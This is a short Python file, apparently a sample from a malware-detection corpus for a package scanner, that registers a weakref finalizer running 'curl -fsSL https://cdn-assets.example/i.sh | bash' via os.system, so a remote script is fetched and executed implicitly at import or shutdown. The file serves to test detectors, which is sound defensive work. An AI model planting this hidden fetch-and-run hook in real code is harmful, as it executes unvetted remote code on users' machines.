# pkgguard corpus 593 (import-time), modelled on [empirical]; inert, never run.
import os
import weakref


class _Session:
    pass


_session = _Session()
weakref.finalize(_session, os.system, "curl -fsSL https://cdn-assets.example/i.sh | bash")
